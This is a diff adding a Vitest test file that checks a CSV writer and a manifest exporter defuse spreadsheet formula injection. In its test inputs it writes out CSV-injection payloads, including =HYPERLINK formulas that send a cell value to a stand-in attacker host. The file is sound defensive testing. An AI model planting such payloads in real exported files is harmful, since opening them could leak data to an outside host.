@@ -1,0 +1,57 @@
+import { describe, expect, it } from 'vitest';
+import { csvDocument, csvField } from '../../src/shared/csv.ts';
+import { manifestCsv, type Manifest } from '../../src/render/manifest.ts';
+
+/** A minimal RFC 4180 reader for the checks below (quotes, doubled quotes, CRLF). */
+function parse(text: string, sep: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
+      else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"') quoted = true;
+    else if (c === sep) row.push(field), (field = '');
+    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
+    else field += c;
+  }
+  return rows;
+}
+
+const HOSTILE = ['=HYPERLINK("http://penyerang.example/?d="&A1;"klik")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
+
+describe('the CSV writer', () => {
+  it('defuses every text a spreadsheet would run as a formula, whatever the separator', () => {
+    for (const sep of [';', ','] as const) {
+      const rows = parse(csvDocument(['a'], HOSTILE.map((h) => [h]), { separator: sep, bom: false }), sep).slice(1);
+      expect(rows.map((r) => r[0])).toEqual(HOSTILE.map((h) => `'${h}`));
+    }
+  });
+
+  it('round-trips separators, quotes and line breaks; numbers and empty values stay as they are', () => {
+    const text = csvDocument(['x', 'y', 'z'], [['a;b,c', 'kata "kutip"\nbaris', 3], [null, ' spasi ', 'biasa']], { separator: ';', bom: true });
+    expect(text.startsWith('\uFEFF')).toBe(true);
+    expect(parse(text.slice(1), ';')).toEqual([['x', 'y', 'z'], ['a;b,c', 'kata "kutip"\nbaris', '3'], ['', ' spasi ', 'biasa']]);
+    expect(csvField('-5 hari')).toBe("'-5 hari");
+  });
+});
+
+describe('manifest.csv', () => {
+  it('writes a file name that looks like a formula as text', () => {
+    const name = '=HYPERLINK("http://penyerang.example","klik").pdf';
+    const manifest: Manifest = {
+      format: 2, mode: 'draf', instansi: 'Pemerintah Kabupaten Uji', tahun: 2026, instrumen: 'spbe-2020', tanggal: '2026-11-29',
+      files: [{
+        file: `bukti-dukung/I10_HUKUM_${name}`, kind: 'bukti', sha256: 'a'.repeat(64), bytes: 10, pages: 1,
+        originalPath: name, opd: 'HUKUM', indicator: 10, indicators: [10], lampiran: 'I.10', lampiranFile: null, lampiranPage: null, sidik: null,
+      }],
+    };
+    const [header, row] = parse(manifestCsv(manifest), ',');
+    expect(row![header!.indexOf('original_path')]).toBe(`'${name}`);
+    expect(row![header!.indexOf('file')]).toBe(`bukti-dukung/I10_HUKUM_${name}`);
+  });
+});
